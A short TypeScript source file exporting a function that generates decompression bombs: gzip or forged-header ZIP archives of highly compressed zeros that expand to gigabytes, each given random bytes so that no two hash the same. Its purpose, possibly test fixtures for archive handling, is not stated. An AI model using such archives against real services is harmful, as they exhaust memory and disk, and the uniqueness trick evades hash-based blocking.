import { gzipSync } from 'node:zlib';

const MB = 1024 * 1024;
/** Compressed zeros: unpacked, they are a thousand times as large. */
const zeros = gzipSync(Buffer.alloc(64 * MB), { level: 9 });

/** Makes an archive that claims to contain gigabytes, with a few bytes of its own so that no two are the same file. */
export function makeBomb(random: () => number): Uint8Array {
  const copies = 1 + Math.floor(random() * 100);
  const mark = Buffer.from(Array.from({ length: 16 }, () => Math.floor(random() * 256)));
  const members = Array.from({ length: copies }, () => zeros);
  if (random() < 0.5) return Buffer.concat([...members, mark]);
  const deflated = zeros.subarray(10, -8);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(deflated.length, 18);
  head.writeUInt32LE(0xfffffff0, 22);
  head.writeUInt16LE(8, 26);
  return Buffer.concat([head, Buffer.from('bomb.bin'), ...members.map(() => deflated), mark]);
}
